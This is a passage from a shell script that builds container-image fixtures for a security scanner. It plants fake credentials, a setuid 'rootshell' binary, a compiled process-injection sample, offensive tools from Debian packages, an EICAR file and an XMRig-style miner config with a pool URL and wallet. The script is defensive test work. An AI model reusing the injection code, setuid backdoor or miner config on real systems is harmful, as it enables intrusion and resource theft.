  jwt=$(printf '{"alg":"HS256","typ":"JWT"}' | b64url).$(printf '{"sub":"drydock-test","iat":1700000000}' | b64url).$(rand 'A-Za-z0-9_-' 43)
  pg_pw=$(rand 'A-Za-z0-9' 20); cs_pw=$(rand 'A-Za-z0-9' 16); azure_key=$(head -c 64 /dev/urandom | base64 -w0); sb_key=$(head -c 32 /dev/urandom | base64 -w0)
  db_pw=$(rand 'A-Za-z0-9' 20); label_token=$(rand 'A-Za-z0-9' 32); history_token=npm_$(rand 'A-Za-z0-9' 36); env_token=ghp_$(rand 'A-Za-z0-9' 36)
  printf '[default]\naws_access_key_id = %s\naws_secret_access_key = %s\nregion = eu-west-1\n' "$aws_id" "$aws_secret" >"$r/root/.aws/credentials"
  jq -n --rawfile key "$r/etc/app/tls.key" '{type: "service_account", project_id: "drydock-test", private_key_id: "0123456789abcdef0123456789abcdef01234567",
    private_key: $key, client_email: "scanner@drydock-test.iam.gserviceaccount.com", client_id: "100000000000000000000"}' >"$r/app/gcp-service-account.json"
  printf '{\n  "Storage": "DefaultEndpointsProtocol=https;AccountName=drydocktest;AccountKey=%s;EndpointSuffix=core.windows.net",\n  "Bus": "Endpoint=sb://drydock-test.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=%s"\n}\n' \
    "$azure_key" "$sb_key" >"$r/app/appsettings.json"
  printf '# deployment settings\nGITHUB_TOKEN=%s\nGH_FINE_GRAINED=%s\nGITLAB_TOKEN=%s\nSLACK_BOT_TOKEN=%s\nSLACK_WEBHOOK=https://hooks.slack.com/services/%s\nSTRIPE_KEY=%s\nDATABASE_URL=postgres://app:%s@db.internal:5432/app\nSESSION=%s\n' \
    "$ghp" "$gh_pat" "$glpat" "$slack" "$webhook" "$stripe" "$pg_pw" "$jwt" >"$r/app/.env"
  printf '//registry.npmjs.org/:_authToken=%s\n' "$npm" >"$r/app/.npmrc"
  printf '<connectionStrings>\n  <add name="main" connectionString="Server=db.internal;Database=app;User Id=app;Password=%s;" />\n</connectionStrings>\n' "$cs_pw" >"$r/app/config/db.config"
  # Look-alikes: a fixture key, documentation, documented examples and placeholders, a binary holding a token.
  cp "$r/root/.ssh/id_rsa" "$r/app/tests/fixtures/id_rsa"
  cp "$r/root/.ssh/id_rsa" "$r/etc/ssl/private/ssl-cert-snakeoil.key"
  printf 'token: ghp_%s\n' "$(rand 'A-Za-z0-9' 36)" >"$r/usr/share/doc/app/NOTES"
  printf '# Setup\nexport GITHUB_TOKEN=ghp_%s\n' "$(rand 'A-Za-z0-9' 36)" >"$r/app/docs/setup.md"
  cat >"$r/app/README.md" <<'MD'
# App
Configure AWS with `aws_access_key_id = AKIAIOSFODNN7EXAMPLE` and `aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY`.
Connect with postgres://user:password@localhost:5432/app or postgres://app:${DB_PASSWORD}@db/app.
A token looks like eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c
Stripe keys start with sk_live_xxxxxxxxxxxxxxxxxxxxxxxx; GitHub ones with ghp_.
The PEM header is -----BEGIN RSA PRIVATE KEY----- followed by the key.
MD
  { printf '\0\0\0\0binary'; printf 'ghp_%s' "$(rand 'A-Za-z0-9' 36)"; } >"$r/app/blob.bin"
  layer_commit "$layout" "$tag" "$work/b" "COPY . / # buildkit"
  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
  rm -f "$work/b/rootfs/root/.aws/credentials"
  layer_commit "$layout" "$tag" "$work/b" "|1 NPM_TOKEN=$history_token /bin/sh -c rm -f /root/.aws/credentials # buildkit"
  umoci config --image "$layout:$tag" --history.created "$CREATED" --history.created_by "ENV DB_PASSWORD=$db_pw API_TOKEN=$env_token" \
    --config.env "DB_PASSWORD=$db_pw" --config.env "API_TOKEN=$env_token" --config.env "DB_PASSWORD_FILE=/run/secrets/db" \
    --config.label "com.example.api-token=$label_token" --config.label "org.opencontainers.image.title=secrets test"
  { printf 'rsa_key=%s\n' "$(sed -n 2p "$r/root/.ssh/id_rsa")"
    for v in aws_id aws_secret ghp gh_pat glpat slack webhook stripe npm jwt pg_pw cs_pw azure_key sb_key db_pw label_token history_token env_token; do
      printf '%s=%s\n' "$v" "${!v}"
    done; } >"$raw"
  rm -rf "$OUT/rootfs/secrets"; cp -a "$r" "$OUT/rootfs/secrets"
  rm -rf "$work"
  finish "$name" "$tag" /bin/sh PATH=/bin
}

# misconfig: a Debian-identified busybox with sudo and openssh-server unpacked from their Debian packages
# (apt-get download + dpkg-deb -x), an extra setuid binary, apt lists and an npm cache left behind, history steps
# that name a latest base, ADD a URL and update the package index alone, and port 22 exposed.
build_misconfig() {
  built misconfig && { log "misconfig exists"; return; }
  local name=misconfig tag=v1 layout=$OUT/misconfig-oci work r deb
  work=$(mktemp -d "$OUT/.work-misconfig.XXXX")
  layout_new "$layout" "$tag"
  umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
  rm -rf "$work/b/rootfs"; busybox_rootfs "$work/b/rootfs"; r=$work/b/rootfs
  printf 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\nID=debian\n' >"$r/etc/os-release"
  printf '12.5\n' >"$r/etc/debian_version"
  (cd "$work" && apt-get download sudo openssh-server >"$work/apt.log" 2>&1) ||
    { log "apt-get download sudo openssh-server failed (needs a Debian package mirror)"; cat "$work/apt.log" >&2; exit 1; }
  for deb in "$work"/*.deb; do dpkg-deb -x "$deb" "$r"; done
  mkdir -p "$r/usr/local/bin"; cp /bin/busybox "$r/usr/local/bin/rootshell"; chmod 4755 "$r/usr/local/bin/rootshell"
  mkdir -p "$r/root/.npm/_cacache/index-v5/1f"; printf '{"key":"make-fetch-happen:request-cache:https://registry.npmjs.org/lodash"}\n' >"$r/root/.npm/_cacache/index-v5/1f/2a"
  layer_commit "$layout" "$tag" "$work/b" "FROM debian:latest"
  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null; r=$work/b/rootfs
  mkdir -p "$r/opt/app"; printf 'app\n' >"$r/opt/app/README"
  layer_commit "$layout" "$tag" "$work/b" "ADD https://example.com/app.tar.gz /opt/app/ # buildkit"
  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null; r=$work/b/rootfs
  mkdir -p "$r/var/lib/apt/lists/partial"; : >"$r/var/lib/apt/lists/lock"
  printf 'Origin: Debian\nSuite: stable\nCodename: bookworm\n' >"$r/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease"
  printf 'Package: sudo\nVersion: 1.9.13p3-1+deb12u1\n\n' >"$r/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_main_binary-amd64_Packages"
  layer_commit "$layout" "$tag" "$work/b" "RUN /bin/sh -c apt-get update # buildkit"
  umoci config --image "$layout:$tag" --no-history --config.exposedports 22/tcp
  rm -rf "$work"
  finish "$name" "$tag" /usr/sbin/sshd PATH=/usr/sbin:/usr/bin:/bin
}

# ---- executables and windows-software (issue 5: executables, PE files, packers) ----

# deb_get DIR PKG...: downloads Debian packages into DIR with apt (no install).
deb_get() {
  local dir=$1; shift
  (cd "$dir" && apt-get download "$@" >"$dir/apt-download.log" 2>&1) || { cat "$dir/apt-download.log" >&2; exit 1; }
}

# deb_unpack_installed ROOT DEB...: unpacks each package into ROOT and records it in ROOT's dpkg database as
# installed (status stanza and .list file), as dpkg would.
deb_unpack_installed() {
  local root=$1 deb name arch multi list; shift
  mkdir -p "$root/var/lib/dpkg/info"
  for deb in "$@"; do
    dpkg-deb -x "$deb" "$root"
    name=$(dpkg-deb -f "$deb" Package); arch=$(dpkg-deb -f "$deb" Architecture); multi=$(dpkg-deb -f "$deb" Multi-Arch)
    { dpkg-deb -f "$deb" | sed '/^Package:/a Status: install ok installed'; echo; } >>"$root/var/lib/dpkg/status"
    list=$name; [ "$multi" = same ] && list="$name:$arch"
    dpkg-deb -c "$deb" | awk '{ p = $6; sub(/^\./, "", p); sub(/\/$/, "", p); print (p == "" ? "/." : p) }' >"$root/var/lib/dpkg/info/$list.list"
  done
}

# A class library whose P/Invoke declarations are the process-injection trio (never called).
dotnet_injector() {
  local out=$1 work
  work=$(mktemp -d "${TMPDIR:-/tmp}/drydock-dotnet.XXXX")
  # Empty props files stop MSBuild from importing a repository's own (central package versions, analyzers).
  printf '<Project />\n' >"$work/Directory.Build.props"; printf '<Project />\n' >"$work/Directory.Build.targets"
  printf '<Project />\n' >"$work/Directory.Packages.props"
  cat >"$work/Injector.csproj" <<'XML'
<Project Sdk="Microsoft.NET.Sdk">
  <PropertyGroup>
    <TargetFramework>net$(BundledNETCoreAppTargetFrameworkVersion)</TargetFramework>
    <Nullable>enable</Nullable>
    <Deterministic>true</Deterministic>
    <GenerateDocumentationFile>false</GenerateDocumentationFile>
  </PropertyGroup>
</Project>
XML
  cat >"$work/Native.cs" <<'CS'
using System.Runtime.InteropServices;

public static class Native
{
    [DllImport("kernel32")] public static extern nint OpenProcess(uint access, bool inherit, uint processId);
    [DllImport("kernel32")] public static extern nint VirtualAllocEx(nint process, nint address, nuint size, uint type, uint protect);
    [DllImport("kernel32")] public static extern bool WriteProcessMemory(nint process, nint address, byte[] buffer, nuint size, out nuint written);
    [DllImport("kernel32")] public static extern nint CreateRemoteThread(nint process, nint attributes, nuint stack, nint start, nint parameter, uint flags, out uint threadId);
}
CS
  DOTNET_CLI_TELEMETRY_OPTOUT=1 DOTNET_NOLOGO=1 DOTNET_SKIP_FIRST_TIME_EXPERIENCE=1 \
    dotnet build "$work/Injector.csproj" -c Release -o "$work/out" -p:UseAppHost=false >"$work/build.log" 2>&1 ||
    { cat "$work/build.log" >&2; rm -rf "$work"; exit 1; }
  cp "$work/out/Injector.dll" "$out"
  rm -rf "$work"
}

build_executables() {
  built executables && [ -d "$OUT/rootfs/executables/opt/samples" ] && { log "executables exists"; return; }
  local name=executables tag=v1 layout=$OUT/executables-oci work r s
  for tool in x86_64-w64-mingw32-gcc upx dotnet; do
    command -v "$tool" >/dev/null || { log "executables needs $tool (scripts/install-deps.sh)"; exit 1; }
  done
  work=$(mktemp -d "$OUT/.work-executables.XXXX")
  layout_new "$layout" "$tag"
  umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
  rm -rf "$work/b/rootfs"; busybox_rootfs "$work/b/rootfs"; r=$work/b/rootfs
  mkdir -p "$work/debs"; deb_get "$work/debs" clamav-testfiles
  dpkg-deb -x "$work"/debs/clamav-testfiles_*.deb "$r"
  layer_commit "$layout" "$tag" "$work/b" "add clamav-testfiles"
  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null; r=$work/b/rootfs; s=$r/opt/samples
  mkdir -p "$s" "$work/src"
  printf '#include <stdio.h>\nstatic const char pool[] = "stratum+tcp://pool.drydock.invalid:3333";\nint main(void) { puts(pool); return 0; }\n' >"$work/src/miner.c"
  cat >"$work/src/inject.c" <<'C'
#include <windows.h>
#include <stdlib.h>
int main(int argc, char **argv) {
  HANDLE p = OpenProcess(PROCESS_ALL_ACCESS, FALSE, argc > 1 ? (DWORD)atoi(argv[1]) : 0);
  if (!p) return 1;
  void *mem = VirtualAllocEx(p, NULL, 4096, MEM_COMMIT, PAGE_EXECUTE_READWRITE);
  SIZE_T n = 0;
  WriteProcessMemory(p, mem, "drydock", 7, &n);
  CreateRemoteThread(p, NULL, 0, (LPTHREAD_START_ROUTINE)mem, NULL, 0, NULL);
  return 0;
}
C
  printf '__declspec(dllexport) int add(int a, int b) { return a + b; }\n' >"$work/src/plain.c"
  printf 'long DriverEntry(void *driver, void *registry) { (void)driver; (void)registry; return 0; }\n' >"$work/src/driver.c"
  x86_64-w64-mingw32-gcc -O2 -s -Wl,--no-insert-timestamp -o "$s/miner.exe" "$work/src/miner.c"
  x86_64-w64-mingw32-gcc -O2 -s -Wl,--no-insert-timestamp -o "$s/inject.exe" "$work/src/inject.c"
  x86_64-w64-mingw32-gcc -O2 -s -Wl,--no-insert-timestamp -shared -o "$s/plain.dll" "$work/src/plain.c"
  x86_64-w64-mingw32-gcc -O2 -s -Wl,--no-insert-timestamp -shared -nostdlib -Wl,--subsystem,native -Wl,--entry,DriverEntry -o "$s/driver.sys" "$work/src/driver.c"
  cp "$s/miner.exe" "$s/miner-upx.exe"; upx -q -q "$s/miner-upx.exe" >/dev/null
  cp /bin/busybox "$s/busybox-upx"; upx -q -q "$s/busybox-upx" >/dev/null
  head -c 300 "$s/inject.exe" >"$s/truncated.exe"   # hostile: the PE header points past the end
  mkdir -p "$s/dotnet"; dotnet_injector "$s/dotnet/Injector.dll"
  layer_commit "$layout" "$tag" "$work/b" "add executable samples"
  rm -rf "$OUT/rootfs/executables"; cp -a "$r" "$OUT/rootfs/executables"   # the samples, driver included, for unit tests
  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
  rm -f "$work/b/rootfs/opt/samples/driver.sys"
  layer_commit "$layout" "$tag" "$work/b" "delete the driver"
  rm -rf "$work"
  finish "$name" "$tag" /bin/sh PATH=/bin
}

build_windows_software() {
  built windows-software && { log "windows-software exists"; return; }
  local name=windows-software tag=v1 layout=$OUT/windows-software-oci work r dotnet_root ver pkgs p
  work=$(mktemp -d "$OUT/.work-windows-software.XXXX")
  mkdir -p "$work/debs"
  deb_get "$work/debs" python3-distlib python3-setuptools-whl gcc-mingw-w64-x86-64-posix-runtime mingw-w64-x86-64-dev wine64 libwine
  layout_new "$layout" "$tag"
  umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
  rm -rf "$work/b/rootfs"; busybox_rootfs "$work/b/rootfs"; r=$work/b/rootfs
  # Python: distlib's launchers as Debian ships them, and setuptools' unpacked into a venv as pip would.
  deb_unpack_installed "$r" "$work"/debs/python3-distlib_*.deb
  dpkg-deb -x "$work"/debs/python3-setuptools-whl_*.deb "$work/whl"
  mkdir -p "$r/opt/venv/lib/python3.11/site-packages"
  python3 -m zipfile -e "$work"/whl/usr/share/python-wheels/setuptools-*.whl "$r/opt/venv/lib/python3.11/site-packages"
  layer_commit "$layout" "$tag" "$work/b" "python launchers"
  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null; r=$work/b/rootfs
  deb_unpack_installed "$r" "$work"/debs/gcc-mingw-w64-x86-64-posix-runtime_*.deb "$work"/debs/mingw-w64-x86-64-dev_*.deb
  layer_commit "$layout" "$tag" "$work/b" "mingw-w64 runtimes"
  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null; r=$work/b/rootfs
  # .NET: this machine's runtime and the SDK's own assemblies in /usr/share/dotnet, and the packages this
  # repository restored, as a NuGet cache in /root/.nuget/packages.
  dotnet_root=$(dirname "$(readlink -f "$(command -v dotnet)")")
  mkdir -p "$r/usr/share/dotnet/shared/Microsoft.NETCore.App" "$r/usr/share/dotnet/sdk"
  cp -a "$dotnet_root/host" "$r/usr/share/dotnet/"
  cp -a "$dotnet_root"/shared/Microsoft.NETCore.App/* "$r/usr/share/dotnet/shared/Microsoft.NETCore.App/"
  for ver in "$dotnet_root"/sdk/*/; do
    mkdir -p "$r/usr/share/dotnet/sdk/$(basename "$ver")"; cp -a "$ver"*.dll "$r/usr/share/dotnet/sdk/$(basename "$ver")/"
  done
  pkgs=$(DOTNET_CLI_TELEMETRY_OPTOUT=1 DOTNET_NOLOGO=1 dotnet nuget locals global-packages -l 2>/dev/null | sed 's/^global-packages: *//')
  mkdir -p "$r/root/.nuget/packages"
  for p in sqlitepclraw.lib.e_sqlite3 microsoft.data.sqlite.core spectre.console system.commandline zstdsharp.port yamldotnet; do
    [ -d "$pkgs/$p" ] && cp -a "$pkgs/$p" "$r/root/.nuget/packages/"
  done
  layer_commit "$layout" "$tag" "$work/b" ".NET runtime, SDK assemblies and a NuGet cache"
  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null; r=$work/b/rootfs
  deb_unpack_installed "$r" "$work"/debs/libwine_*.deb "$work"/debs/wine64_*.deb
  layer_commit "$layout" "$tag" "$work/b" "wine"
  rm -rf "$work"
  finish "$name" "$tag" /bin/sh PATH=/bin
}
# ---- end executables and windows-software ----

# ---------------------------------------------------------------- malicious-content samples (content signatures)
# Real tools from Debian packages (apt-get download + dpkg-deb -x, nothing installed), extracted into images.
SIG_DEBS=(nmap masscan hydra john sqlmap ncat monero)
# A Monero mainnet address generated for these tests (prefix 18, Keccak-256 checksum; no key behind it).
SIG_WALLET=41oFuK6MZ4TTwF5R34b3fkXmeZVMpydTShVhbsV2fstH6GHXXaedRzzXnWiFo3TosaP5f2NALgQewLqofQKPvR2dTCByeg2

# sig_fetch DIR PKG...: the .debs of PKG into DIR (cached there)
sig_fetch() {
  local dir=$1; shift
  mkdir -p "$dir"
  (cd "$dir" && for p in "$@"; do ls "${p}"_*.deb >/dev/null 2>&1 || apt-get download "$p" >/dev/null 2>&1 ||
    { log "apt-get download $p failed (needs the Debian mirror)"; exit 1; }; done)
}

#   malware-samples  layer 1 busybox; layer 2 nmap, nping, masscan, hydra, john, sqlmap, ncat, monerod and
#                    monero-wallet-cli from Debian; layer 3 an EICAR file, an XMRig-style config.json with a stratum
#                    URL and a wallet, a README that only talks about mining; layer 4 deletes masscan.
#                    rootfs/malware-samples keeps layer 3's files (for hashes).
build_malware_samples() {
  built malware-samples && { log "malware-samples exists"; return; }
  local name=malware-samples tag=v1 layout=$OUT/malware-samples-oci work debs=$OUT/debs r p
  work=$(mktemp -d "$OUT/.work-sig.XXXX")
  sig_fetch "$debs" "${SIG_DEBS[@]}"
  layout_new "$layout" "$tag"
  umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
  rm -rf "$work/b/rootfs"; busybox_rootfs "$work/b/rootfs"
  layer_commit "$layout" "$tag" "$work/b" "base: busybox"
  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null; r=$work/b/rootfs
  for p in "${SIG_DEBS[@]}"; do dpkg-deb -x "$(ls "$debs/${p}"_*.deb | head -1)" "$work/x-$p"; done
  mkdir -p "$r/usr/bin" "$r/usr/sbin" "$r/usr/share"
  cp "$work/x-nmap/usr/bin/nmap" "$work/x-nmap/usr/bin/nping" "$work/x-masscan/usr/bin/masscan" "$work/x-hydra/usr/bin/hydra" \
    "$work/x-ncat/usr/bin/ncat" "$work/x-monero/usr/bin/monerod" "$work/x-monero/usr/bin/monero-wallet-cli" "$r/usr/bin/"
  cp "$work/x-john/usr/sbin/john" "$r/usr/sbin/"
  cp -a "$work/x-sqlmap/usr/share/sqlmap" "$r/usr/share/sqlmap"
  ln -s ../share/sqlmap/sqlmap.py "$r/usr/bin/sqlmap"
  layer_commit "$layout" "$tag" "$work/b" "install scanners, crackers and a Monero node (Debian packages)"
  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null; r=$work/b/rootfs
  mkdir -p "$r/opt/miner" "$r/srv/av"
  printf '%s\r\n' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' >"$r/srv/av/eicar.com"
  cat >"$r/opt/miner/config.json" <<JSON
{
    "autosave": true,
    "donate-level": 1,
    "cpu": { "enabled": true, "huge-pages": true },
    "randomx": { "init": -1, "mode": "auto" },
    "pools": [
        {
            "url": "stratum+tcp://pool.supportxmr.com:3333",
            "user": "$SIG_WALLET",
            "pass": "x",
            "keepalive": true,
            "tls": false
        }
    ]
}
JSON
  cat >"$r/opt/miner/README.md" <<'MD'
# Notes on mining

XMRig and xmr-stak are Monero miners. They speak the Stratum protocol: a miner logs in to a pool with
mining.subscribe and mining.authorize, over stratum+tcp or stratum+ssl. Pools such as SupportXMR publish the
address to use. Nothing here runs a miner.
MD
  layer_commit "$layout" "$tag" "$work/b" "add an EICAR file and a miner configuration"
  rm -rf "$OUT/rootfs/$name"; cp -a "$r" "$OUT/rootfs/$name"
  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
  rm -f "$work/b/rootfs/usr/bin/masscan"
  layer_commit "$layout" "$tag" "$work/b" "rm /usr/bin/masscan"
  rm -rf "$work"
  finish "$name" "$tag" /bin/sh PATH=/usr/bin:/usr/sbin:/bin
}

#   ordinary  debootstrap minbase bookworm with python3, nodejs, openssl and curl installed, plus documentation that
#             talks about coin mining and hacking tools in prose (no working URL, wallet or binary).
build_ordinary() {
  built ordinary && { log "ordinary exists"; return; }
  local dir=$OUT/rootfs/ordinary mirror
  if [ ! -f "$dir.complete" ]; then
    rm -rf "$dir"; mirror=$(debian_mirror)
    log "debootstrap --variant=minbase --include=python3,nodejs,openssl,curl $SUITE (a few minutes)"
    debootstrap --variant=minbase --include=python3,nodejs,openssl,curl,ca-certificates "$SUITE" "$dir" ${mirror:+"$mirror"} \
      >"$OUT/debootstrap-ordinary.log" 2>&1 ||
      { log "debootstrap failed; see $OUT/debootstrap-ordinary.log"; tail -5 "$OUT/debootstrap-ordinary.log" >&2; exit 1; }
    rm -rf "$dir"/var/cache/apt/archives/*.deb "$dir"/var/lib/apt/lists/*
    find "$dir" -exec touch -h -d "@$EPOCH" {} +
    touch "$dir.complete"
  fi
  # The documentation is (re)written on every build, so that it can change without a new debootstrap.
  mkdir -p "$dir/usr/share/doc/drydock-notes"
  cat >"$dir/usr/share/doc/drydock-notes/mining.txt" <<'TXT'
About cryptocurrency mining and security tools

Attackers who break into a container often start a coin miner such as XMRig (xmrig), xmr-stak,
cpuminer, ccminer, ethminer, T-Rex, NBMiner, lolMiner, PhoenixMiner, GMiner or TeamRedMiner. The miner
connects to a pool over the Stratum protocol (stratum+tcp, stratum+ssl or stratum+tls) and pays a
wallet; the config.json of XMRig lists its pools, the donate-level and the RandomX settings.
Penetration testers use nmap, masscan, zmap, hydra, medusa, john, hashcat, sqlmap, nikto, metasploit,
mimikatz, impacket, responder, chisel, frp and ncat. This text only names them.

Quoted from manuals: "Usage: nmap [Scan Type(s)] [Options] {target specification}" (https://nmap.org),
"Nmap done: 1 IP address (1 host up)", "Starting Nmap 7.93", "John the Ripper password cracker", the
pool URL form stratum+tcp://pool.example.com:3333, a miner's "pools": [ ... ] section, and the
anti-virus test string X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H* in a sentence.
TXT
  printf 'See mining.txt: nmap, masscan and xmrig are only named here.\n' >"$dir/usr/share/doc/drydock-notes/README"
  mkdir -p "$dir/opt/notes"   # the same prose outside the documentation tree: Markdown is documentation anywhere
  cp "$dir/usr/share/doc/drydock-notes/mining.txt" "$dir/opt/notes/mining.md"
  find "$dir/usr/share/doc/drydock-notes" "$dir/opt/notes" -exec touch -h -d "@$EPOCH" {} +
  single_layer_image ordinary bookworm "$dir" /bin/bash PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
}

for image in "${WANT[@]}"; do
  case "$image" in
    busybox) build_busybox ;;
    layered) build_layered ;;
    opaque) build_opaque ;;
    removed) build_removed ;;
    debian) build_debian ;;
    node) build_node ;;
    node5k) build_node5k ;;
    alpine) build_alpine ;;
    rpm) build_rpm ;;
    npm-malware) build_npm_malware ;;
    miner) build_miner ;;
    hacktools) build_hacktools ;;
    secrets) build_secrets ;;
    misconfig) build_misconfig ;;
    executables) build_executables ;;
    windows-software) build_windows_software ;;
    malware-samples) build_malware_samples ;;
    ordinary) build_ordinary ;;
    *) log "unknown image '$image' (busybox, layered, opaque, removed, debian, node, node5k, alpine, rpm, npm-malware, miner, hacktools, secrets, misconfig, executables, windows-software, malware-samples, ordinary)"; exit 2 ;;
  esac
done
echo "$OUT"
